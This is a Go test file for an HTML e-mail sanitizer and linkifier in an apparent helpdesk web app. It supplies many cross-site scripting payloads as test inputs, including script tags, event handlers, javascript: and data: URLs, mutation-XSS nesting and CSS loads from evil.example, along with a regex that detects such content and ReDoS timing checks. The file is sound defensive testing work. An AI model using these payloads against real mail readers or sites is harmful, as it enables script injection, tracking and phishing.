package web

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

func cleaned(t *testing.T, raw string) cleanMail {
	t.Helper()
	c, err := newMailCleaner().clean([]byte(raw), func(cid string) string {
		if cid == "known@mail" {
			return "/attachments/abc"
		}
		return ""
	})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// harmful finds what must never be left of a mail: scripts, handlers, frames,
// forms, anything that fetches, anything that looks like a style with a URL.
var harmful = regexp.MustCompile(`(?i)<\s*(script|iframe|frame|object|embed|applet|form|input|button|textarea|select|svg|math|style|link|meta|base|video|audio|source|template|noscript|bgsound|layer)\b|\son[a-z]+\s*=|javascript:|vbscript:|expression\s*\(|url\s*\(|@import|-moz-binding|behavior\s*:|srcset|data:text|data:image/svg|position\s*:|\bid\s*=|\bclass\s*=`)

func TestMailHTMLIsInert(t *testing.T) {
	for name, raw := range map[string]string{
		"script":            `<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		"handlers":          `<img src="cid:known@mail" onerror=alert(1)><p onclick="x()">a</p><body onload=alert(1)><a href="#" onmouseover='x'>b</a>`,
		"javascript":        `<a href="javascript:alert(1)">a</a><a href=" java&#x0A;script:alert(1)">b</a><a href="JaVaScRiPt:x">c</a><a href="vbscript:x">d</a>`,
		"data":              `<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:image/svg+xml;base64,PHN2Zz4="><iframe src="data:text/html,x"></iframe>`,
		"styles":            `<p style="background:url(https://evil.example/a.png)">a</p><p style="width:expression(alert(1))">b</p><div style="position:fixed;top:0;left:0;width:100%;height:100%">c</div><style>@import 'https://evil.example/x.css'; p{background:url(//evil.example)}</style><p style="background-image:\75rl(x)">d</p><p style="behavior:url(x)">e</p>`,
		"frames and forms":  `<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=q><button>go</button></form><object data=x></object><embed src=x>`,
		"svg":               `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><script>x</script></mtext></math>`,
		"mutation":          `<noscript><p title="</noscript><img src=x onerror=alert(1)>">a<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
		"meta and base":     `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>`,
		"comments":          `<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><script>x</script>-->`,
		"efail":             `<img src="https://evil.example/`,
		"utf-7":             `+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>a</p>`,
		"names":             `<p id="main" class="sheet">a</p><a name="x" id="live">b</a>`,
		"nul":               "<scr\x00ipt>alert(1)</scr\x00ipt><p>a</p>",
		"template syntax":   `{{.Secret}}<p>{{template "x"}}</p>`,
		"srcset and poster": `<img srcset="https://evil.example/1.png 1x" src="cid:known@mail"><video poster="https://evil.example/p.png"><source src=x></video>`,
	} {
		t.Run(name, func(t *testing.T) {
			c := cleaned(t, raw)
			if m := harmful.FindString(c.HTML); m != "" {
				t.Fatalf("%q is left in %q", m, c.HTML)
			}
			if strings.Contains(c.HTML, "evil.example") && strings.Contains(c.HTML, "<img") {
				t.Fatalf("a remote address is left in %q", c.HTML)
			}
		})
	}
}

func TestMailHTMLKeepsWhatIsHarmless(t *testing.T) {
	c := cleaned(t, `<h1 style="color:#c00; font-size:14pt">Hi</h1><table border="1" cellpadding="3"><tr><td style="background-color:yellow" colspan="2">a</td></tr></table><ul><li>x</li></ul>`)
	for _, want := range []string{"<h1", "color: #c00", "font-size: 14pt", `<table border="1"`, "background-color: yellow", `colspan="2"`, "<li>x</li>"} {
		if !strings.Contains(c.HTML, want) {
			t.Errorf("%q is gone: %s", want, c.HTML)
		}
	}
}

func TestMailPictures(t *testing.T) {
	c := cleaned(t, `<img src="cid:known@mail" alt="a"><img src="cid:other@mail"><img src="https://evil.example/t.gif" width="1"><img src="//evil.example/t.gif"><img src="/attachments/other"><img src="data:image/png;base64,iVBORw0KGgo=">`)
	if strings.Count(c.HTML, "<img") != 2 || !strings.Contains(c.HTML, `src="/attachments/abc"`) || !strings.Contains(c.HTML, "data:image/png") {
		t.Fatalf("kept %s", c.HTML)
	}
	if c.Blocked != 4 {
		t.Fatalf("%d pictures are said to be blocked, want 4", c.Blocked)
	}
}

func TestMailLinksShowWhereTheyLead(t *testing.T) {
	c := cleaned(t, `<a href="https://evil.example/login" title="https://bank.example" target="_top">https://bank.example</a>`)
	for _, want := range []string{`title="https://evil.example/login"`, `target="_blank"`, "noopener", "noreferrer"} {
		if !strings.Contains(c.HTML, want) {
			t.Errorf("%q is missing in %s", want, c.HTML)
		}
	}
	if strings.Contains(c.HTML, "_top") || strings.Contains(c.HTML, `title="https://bank.example"`) {
		t.Errorf("the mail's own attributes are left: %s", c.HTML)
	}
}

// TestCorpusHTMLIsInert runs every HTML-looking specimen of the shared corpus,
// when it is there, through the cleaner: whole mails, headers and all, which is
// harsher than what it gets in life.
func TestCorpusHTMLIsInert(t *testing.T) {
	dir := os.Getenv("HELPDESKD_CORPUS")
	if dir == "" {
		dir = filepath.Join("..", "..", "shared", "corpus")
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*", "*.eml"))
	if len(files) == 0 {
		t.Skip("the corpus is not there: set HELPDESKD_CORPUS to its folder")
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		c := cleaned(t, string(b))
		for _, tag := range regexp.MustCompile(`<[^>]*>`).FindAllString(c.HTML, -1) {
			if m := harmful.FindString(strings.ReplaceAll(tag, "title=", "")); m != "" && !strings.HasPrefix(tag, "<a ") {
				t.Errorf("%s: %q is left in %q", filepath.Base(f), m, tag)
			}
		}
	}
}

func FuzzMailHTML(f *testing.F) {
	f.Add(`<p style="color:red">a<img src="cid:known@mail"></p>`)
	f.Add(`<a href="javascript:x">a</a><svg><script>`)
	f.Fuzz(func(t *testing.T, raw string) {
		c := cleaned(t, raw)
		for _, tag := range regexp.MustCompile(`<[a-zA-Z][^>]*>`).FindAllString(c.HTML, -1) {
			if m := regexp.MustCompile(`(?i)^<\s*(script|iframe|object|embed|form|svg|style|link|meta|base)\b`).FindString(tag); m != "" {
				t.Fatalf("%q is left of %q", tag, raw)
			}
		}
	})
}

// TestMailHTMLTakesBoundedTime: what is made to be read slowly is not, at the
// largest size that is shown.
func TestMailHTMLTakesBoundedTime(t *testing.T) {
	style := func(text string) string { return `<p style="` + text + `">a</p>` }
	many := func(text string) string { return strings.Repeat(text, maxMailHTML/len(text)) }
	for name, raw := range map[string]string{
		"brackets": style(many("(")), "at-rules": style(many("@a ")), "fonts": style("font-family:" + many("a,")), "comments": style(many("/*")), "lengths": style("margin:" + many("1px ")), "braces": style(many("a:{")),
		"many styles": many(style(strings.Repeat("(", 900))), "nesting": many("<div><b><table>"), "attributes": "<p " + many("a=b ") + ">", "ordinary": many(style("color:red;margin:1px 2px")),
	} {
		t.Run(name, func(t *testing.T) {
			done := make(chan time.Duration, 1)
			start := time.Now()
			go func() {
				cleaned(t, raw)
				done <- time.Since(start)
			}()
			select {
			case took := <-done:
				t.Logf("%s", took)
			case <-time.After(20 * time.Second): // two busy cores; one second when idle
				t.Fatalf("4 MB are not cleaned within %s", time.Since(start))
			}
		})
	}
	if c := cleaned(t, `<p style="color:red">a</p>`+style(strings.Repeat("color:red;", 200))); strings.Count(c.HTML, "color: red") != 1 || strings.Count(c.HTML, "<p") != 2 {
		t.Errorf("a long style takes more than itself away: %.300s", c.HTML)
	}
}

func TestLinkifyTakesBoundedTime(t *testing.T) {
	start := time.Now()
	linkify("http://a" + strings.Repeat(")", 1<<20))
	if took := time.Since(start); took > 3*time.Second { // 30 s when each bracket looks through all the others
		t.Errorf("a megabyte of brackets takes %s", took)
	}
}

func TestLinkify(t *testing.T) {
	for text, want := range map[string]string{
		"see https://a.example/x.":             `see <a href="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">https://a.example/x</a>.`,
		"(https://a.example/b)":                `(<a href="https://a.example/b" target="_blank" rel="noopener noreferrer nofollow">https://a.example/b</a>)`,
		"<b>":                                  "&lt;b&gt;",
		`https://a.example/"onclick="alert(1)`: `<a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">https://a.example/</a>&#34;onclick=&#34;alert(1)`,
		"javascript:alert(1)":                  "javascript:alert(1)",
	} {
		if got := string(linkify(text)); got != want {
			t.Errorf("linkify(%q) = %s, want %s", text, got, want)
		}
	}
}
